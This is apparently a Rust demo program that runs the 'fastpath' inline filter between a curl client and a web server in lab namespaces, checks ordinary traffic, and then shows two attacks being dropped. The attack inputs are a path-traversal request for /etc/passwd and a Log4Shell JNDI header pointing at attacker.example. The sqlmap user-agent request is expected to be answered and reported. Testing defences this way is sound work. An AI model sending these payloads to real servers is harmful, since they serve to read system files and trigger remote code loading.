//! `make demo`: fastpath inline between a real client and a real web server, with ordinary traffic and two
//! attacks. Ends with a failure when anything did not happen as told.

mod report;
mod web;

use std::{
    path::{Path, PathBuf},
    process::ExitCode,
    time::{Duration, Instant},
};

use clap::Parser;
use fastpath_lab::{
    FastpathCommand, Lab, Namespace, PORT_IN, PORT_OUT, SERVER_IP, Signal, built_beside, ping,
};
use report::Report;
use web::{BULK, Curl, WebServer, curl};

const RULES: &str = include_str!("../../demo/demo.rules");
/// Enough connections to use every queue: all of them miss one of four once in 25,000 runs.
const PAGES: usize = 40;
/// How long curl waits for an answer that must come, and for one that must not.
const PATIENCE: (f32, f32) = (20.0, 1.5);

/// Shows fastpath at work between a client and a web server, in network namespaces of its own.
#[derive(Parser)]
struct Arguments {
    /// The fastpath to show [default: the one built beside this program].
    #[arg(long)]
    fastpath: Option<PathBuf>,
}

fn main() -> ExitCode {
    match show(Arguments::parse()) {
        Ok(true) => ExitCode::SUCCESS,
        Ok(false) => {
            eprintln!("\nThe demo did not go as told: see the lines marked FAILED.");
            ExitCode::FAILURE
        }
        Err(error) => {
            eprintln!("demo: {error:#}");
            ExitCode::FAILURE
        }
    }
}

fn show(arguments: Arguments) -> anyhow::Result<bool> {
    let binary = arguments.fastpath.map_or_else(built_beside, Ok)?;
    let mut report = Report::default();
    let lab = Lab::new()?;
    let server = WebServer::start(&lab.server)?;
    println!(
        "client (curl) ---- {PORT_IN} [ fastpath, queues 0-3 ] {PORT_OUT} ---- web server ({})\n",
        server.name
    );

    println!("Without fastpath");
    report.step(silent(&lab.client, "/", &[], 1.0)?, "curl gets no answer: nothing joins the two ports");

    let options = ["--interface", PORT_IN, "--peer", PORT_OUT, "--queues", "0-3"];
    println!("\nWith: fastpath {} -S demo.rules", options.join(" "));
    let fastpath = FastpathCommand::new(&lab.inspector, binary).args(options).rules(RULES).start()?;
    ordinary_traffic(&lab, &server, &mut report)?;
    attacks(&lab.client, &mut report)?;

    let ended = fastpath.stop(Signal::SIGTERM)?;
    report.step(
        ended.status.success(),
        &format!("SIGTERM: fastpath ends in order after {} ms", ended.took.as_millis()),
    );
    match &ended.stats {
        Some(stats) => report.table(&ended, stats),
        None => report.step(false, &format!("fastpath gave no figures: {}", ended.stderr)),
    }
    Ok(report.all_happened())
}

fn ordinary_traffic(lab: &Lab, server: &WebServer, report: &mut Report) -> anyhow::Result<()> {
    let mut pings = 0;
    for _ in 0..3 {
        pings += usize::from(ping(&lab.client, SERVER_IP.into(), &[7; 56], Duration::from_secs(5))?);
    }
    report.step(pings == 3, &format!("ping: {pings} of 3 answered"));

    let pages = format!("/?page=[1-{PAGES}]");
    let codes = match curl(&lab.client, &pages, PATIENCE.0, Path::new("/dev/null"), &[])? {
        Curl::Answered(codes) => codes,
        Curl::Silence => Vec::new(),
    };
    let good = codes.iter().filter(|code| **code == 200).count();
    report.step(good == PAGES, &format!("curl: {good} of {PAGES} pages, each over a connection of its own"));

    let copy = server.folder.path().join("copy");
    let begin = Instant::now();
    let bulk = curl(&lab.client, &format!("/{}", BULK.0), PATIENCE.0, &copy, &[])?;
    let seconds = begin.elapsed().as_secs_f64();
    let intact =
        all_good(&bulk) && std::fs::read(&copy)? == std::fs::read(server.folder.path().join(BULK.0))?;
    let megabytes = BULK.1 / 1_000_000;
    report.step(intact, &format!("curl: {megabytes} MB downloaded and intact, in {seconds:.2} s"));
    Ok(())
}

fn attacks(client: &Namespace, report: &mut Report) -> anyhow::Result<()> {
    let traversal = silent(client, "/../../etc/passwd", &[], PATIENCE.1)?;
    report.step(traversal, "attack: GET /../../etc/passwd gets no answer");
    let header = ["--header", "X-Api-Version: ${jndi:ldap://attacker.example/a}"];
    report.step(silent(client, "/", &header, PATIENCE.1)?, "attack: a Log4Shell header gets no answer");
    let scanner = ["--user-agent", "sqlmap/1.8"];
    report
        .step(answered(client, "/", &scanner, PATIENCE.0)?, "a scanner's request is answered, and reported");
    report
        .step(answered(client, "/", &[], PATIENCE.0)?, "an ordinary page afterwards: the wire still carries");
    Ok(())
}

/// Whether a request is answered with 200.
fn answered(client: &Namespace, path: &str, more: &[&str], seconds: f32) -> anyhow::Result<bool> {
    Ok(all_good(&curl(client, path, seconds, Path::new("/dev/null"), more)?))
}

/// Whether a request gets no answer at all, not even a refusal.
fn silent(client: &Namespace, path: &str, more: &[&str], seconds: f32) -> anyhow::Result<bool> {
    Ok(matches!(curl(client, path, seconds, Path::new("/dev/null"), more)?, Curl::Silence))
}

fn all_good(curl: &Curl) -> bool {
    matches!(curl, Curl::Answered(codes) if codes.iter().all(|code| *code == 200))
}
